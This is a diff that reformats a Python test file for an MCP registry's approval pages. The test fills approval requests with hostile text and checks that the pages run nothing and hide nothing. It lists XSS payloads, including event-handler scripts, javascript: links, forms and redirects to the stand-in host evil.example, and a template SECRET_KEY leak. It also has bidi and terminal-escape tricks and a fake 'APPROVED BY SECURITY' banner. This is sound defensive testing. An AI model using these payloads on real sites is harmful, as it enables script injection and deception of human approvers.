@@ -1,4 +1,5 @@
-"""Hostile names, descriptions, arguments and reasons: nothing runs, nothing leaves, no fact is hidden."""
+"""Hostile names, descriptions, arguments and reasons: nothing runs, nothing leaves, no fact is
+hidden."""
 
 from __future__ import annotations
 
@@ -9,7 +10,15 @@ import pytest
 
 from mcpregistry.domain.definitions.comparison import readable
 from mcpregistry.domain.text.canonical import canonical, plain
-from mcpregistry.models import Agent, ApprovalRequest, ApprovalVote, Definition, Invocation, PolicyRule, Server
+from mcpregistry.models import (
+    Agent,
+    ApprovalRequest,
+    ApprovalVote,
+    Definition,
+    Invocation,
+    PolicyRule,
+    Server,
+)
 from tests.fakes.held import hold
 from tests.fakes.hostile import POLYGLOTS
 from tests.fakes.seed import Site
@@ -20,34 +29,57 @@ WindowOf = Callable[..., Any]
 
 HIDDEN = "\x1b\u202e\u200b\U000e0041\x9b\u2066"
 MORE = (
-    "<img src=x onerror=window.__x=1>", "<svg><script>window.__x=1</script></svg>", "<body onload=window.__x=1>",
-    "<a href='javascript:window.__x=1'>Approve</a>", "<form action=//evil.example><input name=q>", "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{display:none!important}</style>",
-    "<div style='position:fixed;inset:0;background:#fff;z-index:999'>Approved</div>", "</pre></main></body><h1>Approved</h1>",
-    "<details open ontoggle=window.__x=1>", "<input autofocus onfocus=window.__x=1>", "<video><source onerror=window.__x=1></video>",
-    "{% debug %}{{ settings.SECRET_KEY }}", "&lt;script&gt;window.__x=1&lt;/script&gt;", "<div hx-get=//evil.example hx-trigger=load>",
+    "<img src=x onerror=window.__x=1>",
+    "<svg><script>window.__x=1</script></svg>",
+    "<body onload=window.__x=1>",
+    "<a href='javascript:window.__x=1'>Approve</a>",
+    "<form action=//evil.example><input name=q>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>*{display:none!important}</style>",
+    "<div style='position:fixed;inset:0;background:#fff;z-index:999'>Approved</div>",
+    "</pre></main></body><h1>Approved</h1>",
+    "<details open ontoggle=window.__x=1>",
+    "<input autofocus onfocus=window.__x=1>",
+    "<video><source onerror=window.__x=1></video>",
+    "{% debug %}{{ settings.SECRET_KEY }}",
+    "&lt;script&gt;window.__x=1&lt;/script&gt;",
+    "<div hx-get=//evil.example hx-trigger=load>",
     "<button form=decision name=do value=approve>Cancel</button>",
-)  # fmt: skip
+)
 TEXTS = POLYGLOTS
 TRICKS = f"\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 rm\u202e gpj.exe \u2066a\u200bb\U000e0041\x9b31m{'a' + chr(0x301) * 60}"
 
 
 def poison_all(number: int) -> ApprovalRequest:
     """A held call in which every text that somebody foreign chooses is hostile."""
-    text, more = TEXTS[number], MORE[number % len(MORE)]
+    text = TEXTS[number]
+    more = MORE[number % len(MORE)]
     rule = PolicyRule.objects.create(name=plain(f"{number} {text}", 200), condition=plain(text))
     arguments = {"query": f"{text} {TRICKS}", text: [text, {more: text}]}
     held = hold(
-        arguments=arguments, rule=rule, said=plain(f"{text}\n{more}\n{TRICKS}") + "\n" * 500 + "APPROVED BY SECURITY"
+        arguments=arguments,
+        rule=rule,
+        said=plain(f"{text}\n{more}\n{TRICKS}") + "\n" * 500 + "APPROVED BY SECURITY",
     )
-    calls, requests = Invocation.objects.filter(pk=held.call_id), ApprovalRequest.objects.filter(pk=held.pk)
+    calls = Invocation.objects.filter(pk=held.call_id)
+    requests = ApprovalRequest.objects.filter(pk=held.pk)
     calls.update(
-        exposed_name=plain(text, 500), host_name=plain(text, 100), endpoint_slug=plain(text, 63), reason=plain(text)
+        exposed_name=plain(text, 500),
+        host_name=plain(text, 100),
+        endpoint_slug=plain(text, 63),
+        reason=plain(text),
     )
     requests.update(rule_name=plain(text, 200), decided_reason=plain(text))
     ApprovalVote.objects.create(
-        request=held, name=plain(text, 150), approve=True, reason=plain(text), arguments_hash="", via="web", at=held.asked_at
-    )  # fmt: skip
+        request=held,
+        name=plain(text, 150),
+        approve=True,
+        reason=plain(text),
+        arguments_hash="",
+        via="web",
+        at=held.asked_at,
+    )
     return held
 
 
@@ -66,9 +98,12 @@ def unharmed(window: Any, address: str) -> None:
     assert window.evaluate("window.__x") is None, address
     seen = window.evaluate("document.body.innerText")
     assert not any(sign in seen for sign in HIDDEN), address
-    assert window.evaluate("document.querySelectorAll('iframe, object, embed, base, img, svg, video').length") == 0, (
-        address
-    )
+    assert (
+        window.evaluate(
+            "document.querySelectorAll('iframe, object, embed, base, img, svg, video').length"
+        )
+        == 0
+    ), address
 
 
 @pytest.mark.exhaustive
@@ -88,7 +123,8 @@ def test_25_polyglots_in_every_text_never_run_leave_or_hide(
 
 
 def facts_come_first(window: Any) -> None:
-    """Facts, all arguments, the decision, then what the server and the agent say; none covers another."""
+    """Facts, all arguments, the decision, then what the server and the agent say; none covers
+    another."""
     order = window.evaluate("""() => {
       const all = ['facts', 'asked', 'decide', 'tool-says', 'says'].map((id) => document.getElementById(id));
       return all.every((node, i) => node && (!i || all[i - 1].compareDocumentPosition(node) & 4));
@@ -115,7 +151,9 @@ def facts_come_first(window: Any) -> None:
 
 
 @pytest.mark.exhaustive
-def test_on_a_phone_everything_fits_and_stays_in_order(window_of: WindowOf, poisoned: list[ApprovalRequest]) -> None:
+def test_on_a_phone_everything_fits_and_stays_in_order(
+    window_of: WindowOf, poisoned: list[ApprovalRequest]
+) -> None:
     window = window_of("approver", viewport={"width": 390, "height": 844})
     for address in ("/approvals/", "/approvals/history/", "/approvals/figures/"):
         window.goto(address)
@@ -127,7 +165,9 @@ def test_on_a_phone_everything_fits_and_stays_in_order(window_of: WindowOf, pois
 
 
 @pytest.mark.exhaustive
-def test_ten_megabytes_are_folded_shown_whole_on_demand_and_never_cut(window_of: WindowOf, crowd: Site) -> None:
+def test_ten_megabytes_are_folded_shown_whole_on_demand_and_never_cut(
+    window_of: WindowOf, crowd: Site
+) -> None:
     held = hold(arguments={"query": "x", "text": "A" * 10_485_760 + "\u202eTHE END"})
     window = window_of("approver")
     assert window.goto(f"/approvals/{held.pk}/").status == 200
